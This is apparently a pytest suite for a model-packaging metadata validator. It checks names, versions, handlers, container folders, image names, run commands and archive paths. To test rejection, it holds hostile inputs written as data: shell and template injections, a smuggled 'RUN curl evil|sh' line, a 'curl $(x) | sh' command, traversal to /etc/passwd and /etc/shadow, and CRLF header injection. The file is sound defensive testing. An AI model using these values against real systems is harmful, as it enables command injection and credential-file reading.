"""Texts that become names, versions, commands and paths: what passes, what is invalid, what is hostile."""

from __future__ import annotations

import pytest

from dlm_build.errors import ItemHostile, ItemInvalid
from dlm_build.records import Item

from .samples_of_items import ASSET, DATA, DOCKER, RUNTIME, codes, found, read, read_spoiled, spoiled

MACHINE = (
    f"{RUNTIME}framework",
    f"{RUNTIME}version",
    f"{RUNTIME}model_handler",
    f"{DOCKER}image_name",
    f"{DOCKER}tag",
    f"{DOCKER}working_dir",
    f"{DATA}dtype",
    f"{RUNTIME}model_commit_hash",
)
INJECTIONS = ("$(id)", "${HOME}", "`id`", "{{ x.__init__ }}", "{% for %}", "# syntax=evil/fe", "//syntax = evil")
WORDS = (f"{RUNTIME}framework", f"{RUNTIME}version")
"""Machine names that people write as words of their texts."""
STRAY = ("\u200b", "\ufeff", "\u00ad", "\xa0", "\u202f")
UNSEEN = ("\n", "\r", "\0", "\x1b[31m", "\u202e", "\u200b", "\u2028", "\x85", "\ud800", "\ufeff")


@pytest.mark.parametrize("path", MACHINE)
@pytest.mark.parametrize("text", INJECTIONS + UNSEEN)
def test_hostile_in_every_machine_name(path: str, text: str) -> None:
    if path in WORDS and text in STRAY:
        return  # see below
    ends = () if text in ("\n", "\r") else (f"a{text}", f"{text}a")
    for value in (*ends, f"/w{text}b"):
        with pytest.raises((ItemHostile, ItemInvalid)) as caught:
            read_spoiled(path, value)
        assert f" /{path}: " in caught.value.message
        assert all(line.isprintable() for line in str(caught.value).splitlines())
        if path.endswith("model_handler") and value.startswith("/"):
            continue
        assert isinstance(caught.value, ItemHostile), caught.value.message


@pytest.mark.parametrize(("path", "name"), [(WORDS[0], "PyTorch"), (WORDS[1], "1.7.1"), (f"{DOCKER}tag", "1.0")])
@pytest.mark.parametrize("around", ["{}\n", "\r\n{}\r\n", "\t{}"])
def test_line_breaks_around_a_name(path: str, name: str, around: str) -> None:
    item = read_spoiled(path, around.format(name))
    assert found(item, "surrounding-spaces").pointer == f"/{path}"
    assert name in (item.runtime.framework, item.runtime.version, item.runtime.docker.tag)


@pytest.mark.parametrize(("path", "word"), [(WORDS[0], "PyTorch"), (WORDS[1], "1.7.1")])
@pytest.mark.parametrize("stray", STRAY)
def test_spaces_of_a_word_processor_are_no_part_of_a_word(path: str, word: str, stray: str) -> None:
    item = read_spoiled(path, f"{stray}{word}{stray}")
    assert {item.runtime.framework, item.runtime.version} == {"PyTorch", "1.7.1"}
    told = found(item, "stray-spaces")
    assert (told.severity, told.pointer, told.evidence) == ("info", f"/{path}", ascii(stray)[1:-1])
    assert told.message.isprintable()


@pytest.mark.parametrize("path", [path for path in MACHINE if path != WORDS[1]])
@pytest.mark.parametrize("text", ['a"b', "a'b", "é", "a;b", "a|b", "x" * 5000, "-rf", "a\\"])
def test_invalid_in_every_machine_name(path: str, text: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        read_spoiled(path, text)
    assert f" /{path}: " in caught.value.message
    assert 'write something like "' in caught.value.hint


@pytest.mark.parametrize("path", MACHINE)
@pytest.mark.parametrize("value", [["a"], {"a": "b"}, True])
def test_wrong_types_of_machine_names(path: str, value: object) -> None:
    with pytest.raises(ItemInvalid, match="must be a text, but is"):
        read_spoiled(path, value)


def runtime(name: str, value: object) -> Item:
    return read_spoiled(RUNTIME + name, value)


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("1.7.1", "1.7.1"),
        ("v2.0", "2.0"),
        ("1.10", "1.10"),
        ("2.1.0+cu118", "2.1.0+cu118"),
        ("1.8.0rc2", "1.8.0rc2"),
        (" 1.5 ", "1.5"),
    ],
)
def test_versions(written: str, read: str) -> None:
    item = runtime("version", written)
    assert item.runtime.version == read
    assert codes(item) <= {"surrounding-spaces"}


@pytest.mark.parametrize("written", [">=1.5", "latest", "^1.2", "1.5 or later", "1.x,", "~=1.4", "N/A", "1.20 (GPU)"])
def test_versions_that_are_not_one_version(written: str) -> None:
    item = runtime("version", written)
    assert item.runtime.version is None
    finding = found(item, "version-in-words")
    assert finding.severity == "warning" and f'"{written}" is not one exact version' in finding.message
    assert "no-framework-version" not in codes(item), "it is said once"


@pytest.mark.parametrize("written", ["1.7.x", "1.7.X", "1.7.*"])
def test_an_open_version_says_that_it_is_one(written: str) -> None:
    item = runtime("version", written)
    assert item.runtime.version == written
    finding = found(item, "version-is-open")
    assert (finding.severity, finding.hint) == ("warning", "write the whole version, e.g. 1.7.1")


@pytest.mark.parametrize(
    ("framework", "version", "kept"),
    [("pytorch-lightning", "1.7.1", None), ("PyTorch Lightning", "2.0", None), ("lightning", "2.1.0", None),
     ("Keras", "3.0.5", None), ("keras", "2.3.1", None), ("tf.keras", "2.16.1", None), ("Keras", "2.10", "2.10"),
     ("Keras", "2.4.3", "2.4.3"), ("Keras", "2", "2"), ("libtorch", "1.7.1", "1.7.1"), ("TF", "2.16.1", "2.16.1")],
)  # fmt: skip
def test_the_version_of_a_library_is_not_the_frameworks(framework: str, version: str, kept: str | None) -> None:
    document = spoiled(f"{RUNTIME}version", version)
    document["properties"]["dlm:runtime"]["framework"] = framework
    item = read(document)
    assert (item.runtime.framework, item.runtime.version) == (framework, kept)
    assert ("version-of-package" in codes(item)) is (kept is None)
    assert "no-framework-version" not in codes(item)


def test_a_version_that_is_a_number_says_its_patch_level_is_unknown() -> None:
    item = runtime("version", 1.5)
    assert item.runtime.version == "1.5"
    finding = found(item, "version-is-a-number")
    assert (finding.severity, finding.pointer) == ("warning", "/properties/dlm:runtime/version")
    assert "patch level is unknown" in finding.message
    assert runtime("version", 2).runtime.version == "2"


@pytest.mark.parametrize("number", [-1, 1e20, 1e-7])
def test_numbers_that_are_no_version(number: float) -> None:
    with pytest.raises(ItemInvalid, match="version"):
        runtime("version", number)


@pytest.mark.parametrize(
    "handler",
    [
        "thelper.cli.inference_session",
        "mxnet_vision_service:handle",
        "handler.py",
        "handler.py:Handler",
        "sub/dir/h.py:f",
        "image_classifier",
        "os:system",
        "pkg.mod:Class.method",
    ],
)
def test_handlers(handler: str) -> None:
    assert runtime("model_handler", handler).runtime.handler == handler


def test_a_handler_loses_its_leading_dot() -> None:
    assert runtime("model_handler", "./handler.py:f").runtime.handler == "handler.py:f"


@pytest.mark.parametrize("handler", ["../../x:f", "/etc/x.py", "a/../b.py:f", "..\\x:f", ".././x.py"])
def test_handlers_outside_the_archive(handler: str) -> None:
    with pytest.raises(ItemHostile, match="must stay inside the archive"):
        runtime("model_handler", handler)


@pytest.mark.parametrize(
    "handler", ["https://example.org/h.py", "a b.py", "h.py:f()", "lib/handler.so", "a..b", ":f", "f:", "1a.b"]
)
def test_no_handlers(handler: str) -> None:
    with pytest.raises(ItemInvalid, match="must be a handler"):
        runtime("model_handler", handler)


@pytest.mark.parametrize("words", ["see the notebook", "python predict.py --in x", "TBD", "n/a"])
def test_a_handler_in_words_for_people_is_left_out(words: str) -> None:
    item = runtime("model_handler", words)
    assert item.runtime.handler is None
    told = found(item, "entrypoint-unreadable")
    assert (told.pointer, told.message) == (
        f"/{RUNTIME}model_handler", f'"{words}" is not the name of a Python function; it is left out'
    )  # fmt: skip
    assert "model_handler" in told.hint


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("/workspace", "/workspace"),
        ("/workspace/", "/workspace"),
        ("//w//x/./y", "/w/x/y"),
        ("/usr/src/app", "/usr/src/app"),
        ("/tmp/x", "/tmp/x"),
        ("/etcetera", "/etcetera"),
    ],
)
def test_working_folders(written: str, read: str) -> None:
    assert read_spoiled(f"{DOCKER}working_dir", written).runtime.docker.working_dir == read


@pytest.mark.parametrize(
    "folder", ["/", "/proc", "/proc/self", "/dev", "/etc/x", "/./etc", "/usr/bin", "/opt/dlm/env", "//dlm", "/opt"]
)
def test_folders_of_the_container(folder: str) -> None:
    with pytest.raises(ItemInvalid, match="belongs to the container itself"):
        read_spoiled(f"{DOCKER}working_dir", folder)


def test_a_folder_that_climbs() -> None:
    with pytest.raises(ItemHostile, match=r'must not climb with "\.\."'):
        read_spoiled(f"{DOCKER}working_dir", "/w/../etc")


@pytest.mark.parametrize("folder", ["/w\nRUN curl evil|sh", "/w/$(id)"])
def test_a_folder_with_an_instruction(folder: str) -> None:
    with pytest.raises(ItemHostile):
        read_spoiled(f"{DOCKER}working_dir", folder)


@pytest.mark.parametrize(("written", "read"), [("job", "/job"), ("./job/a", "/job/a"), ("job/", "/job")])
def test_a_folder_is_seen_from_the_root(written: str, read: str) -> None:
    item = read_spoiled(f"{DOCKER}working_dir", written)
    assert item.runtime.docker.working_dir == read
    assert found(item, "folder-not-absolute").evidence == written


@pytest.mark.parametrize("folder", ["work/../../etc", "./..", "a/.."])
def test_no_folder_climbs(folder: str) -> None:
    with pytest.raises((ItemHostile, ItemInvalid)):
        read_spoiled(f"{DOCKER}working_dir", folder)


@pytest.mark.parametrize(
    ("written", "image", "code"),
    [
        ("https://hub.docker.com/r/me/x", "docker.io/me/x", "image-inferred"),
        ("https://hub.docker.com/_/ubuntu", "docker.io/library/ubuntu", "image-inferred"),
        ("docker://me/x", "docker.io/me/x", "image-inferred"),
        ("https://quay.io/repository/me/x", "quay.io/me/x", "image-inferred"),
        ("https://example.org/me/x", None, "image-not-read"),
        ("https://hub.docker.com/r/me/$(id)", None, ""),
    ],
)
def test_the_address_of_an_image(written: str, image: str | None, code: str) -> None:
    if not code:
        with pytest.raises(ItemHostile):
            read_spoiled(f"{DOCKER}image_name", written)
        return
    item = read_spoiled(f"{DOCKER}image_name", written)
    assert item.runtime.docker.image_name == image
    assert found(item, code).evidence == written


@pytest.mark.parametrize("folder", ["/w\\", "w x", "C:/w", "/w x", "/w$X", "/" + "x" * 201, "~/w"])
def test_no_folders(folder: str) -> None:
    with pytest.raises(ItemInvalid, match="must be a folder in the container"):
        read_spoiled(f"{DOCKER}working_dir", folder)


@pytest.mark.parametrize(
    ("written", "name"),
    [
        ("me/coast", "me/coast"),
        ("registry.example.org:5000/a/b_c-d", "registry.example.org:5000/a/b_c-d"),
        ("localhost/x", "localhost/x"),
        ("a@sha256:" + "0" * 64, "a@sha256:" + "0" * 64),
    ],
)
def test_image_names(written: str, name: str) -> None:
    docker = read_spoiled(f"{DOCKER}image_name", written).runtime.docker
    assert (docker.image_name, docker.tag) == (name, "1.0")


@pytest.mark.parametrize("name", ["--privileged", "-v/:/h", "A..B", "a//b", "x" * 300, "a:b:c", "Upper"])
def test_no_image_names(name: str) -> None:
    with pytest.raises(ItemInvalid, match="must be an image name"):
        read_spoiled(f"{DOCKER}image_name", name)


def test_a_tag_in_two_places() -> None:
    item = read_spoiled(f"{DOCKER}image_name", "reg.example.org:5000/coast:2.0")
    assert (item.runtime.docker.image_name, item.runtime.docker.tag) == ("reg.example.org:5000/coast", "1.0")
    assert found(item, "contradiction-tag").severity == "warning"


def test_commands_stay_as_they_are() -> None:
    run = "thelper infer --config '/w/c.yml' ; curl $(x) | sh"
    assert read_spoiled(f"{DOCKER}run", run).runtime.docker.run == run
    assert read_spoiled(f"{DOCKER}run", f" {run}\n").runtime.docker.run == run


@pytest.mark.parametrize("run", ["a\nb", "a \\\n b", "a\tb"])
def test_commands_of_several_lines(run: str) -> None:
    with pytest.raises(ItemInvalid, match="must be one line"):
        read_spoiled(f"{DOCKER}run", run)


def test_long_and_hostile_commands() -> None:
    with pytest.raises(ItemInvalid, match="has 5000 characters"):
        read_spoiled(f"{DOCKER}run", "x" * 5000)
    for bad in ("a\0b", "a\x1b[2J", "a\u202eb", "a\ud800"):
        with pytest.raises(ItemHostile):
            read_spoiled(f"{DOCKER}run", bad)
    with pytest.raises(ItemInvalid, match="must be a text, but is a list of 1"):
        read_spoiled(f"{DOCKER}run", [["predict"]])
    with pytest.raises(ItemHostile):
        read_spoiled(f"{DOCKER}run", ["a\x1b[2J"])


@pytest.mark.parametrize(
    "path",
    [
        f"{DATA}test_file/filename",
        f"{DATA}test_file/output",
        "properties/dlm:archive/0/name",
        f"{RUNTIME}requirement_file",
    ],
)
@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "a/../../b",
        "/etc/shadow",
        "a\0.png",
        "..",
        "..\\x",
        "\\\\host\\x",
        "C:x",
        "C:\\x",
        "a\nb",
        "a\u202etif",
        "\ud800",
    ],
)
def test_members_outside_the_archive(path: str, name: str) -> None:
    with pytest.raises(ItemHostile) as caught:
        read_spoiled(path, name)
    assert f" /{path}: " in caught.value.message


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("./a/b.tif", "a/b.tif"),
        ("././a", "a"),
        ("a//b/./c", "a/b/c"),
        ("données.tif", "données.tif"),
        ("a b (1).tif", "a b (1).tif"),
        ("a..b", "a..b"),
        ("-rf", "-rf"),
        ("*", "*"),
    ],
)
def test_members(written: str, read: str) -> None:
    item = read_spoiled(f"{DATA}test_file", {"filename": written, "output": "out.tif"})
    assert item.sample is not None and item.sample.input == read


@pytest.mark.parametrize("name", [".", "./", "a" * 2000])
def test_no_members(name: str) -> None:
    with pytest.raises(ItemInvalid):
        read_spoiled(f"{DATA}test_file/filename", name)


def test_a_member_with_backslashes() -> None:
    item = read_spoiled(f"{DATA}test_file/filename", "sample\\in.tif")
    assert item.sample is not None and item.sample.input == "sample/in.tif"
    assert found(item, "backslash-in-path").pointer == "/properties/dlm:data/test_file/filename"


@pytest.mark.parametrize("bad", ["https://x/\r\nHost: y", "a\0", "https://x/\x1b"])
def test_hostile_addresses(bad: str) -> None:
    for path in (f"{ASSET}href", f"{RUNTIME}model_src_url"):
        with pytest.raises(ItemHostile):
            read_spoiled(path, bad)


def test_a_source_that_is_an_option() -> None:
    with pytest.raises(ItemHostile, match="must be a URL"):
        read_spoiled(f"{RUNTIME}model_src_url", "--upload-pack=x")


@pytest.mark.parametrize(
    ("read_as", "letter"), [("data\best.onnx", "b"), ("data\test.tif", "t"), ("data\form.tif", "f")]
)
def test_a_path_of_windows_with_single_backslashes(read_as: str, letter: str) -> None:
    """JSON reads each of them with the letter behind it as one character."""
    with pytest.raises(ItemHostile) as caught:
        read_spoiled(f"{ASSET}href", read_as)
    assert f"write / for it: \\{letter} stands for one character" in caught.value.hint
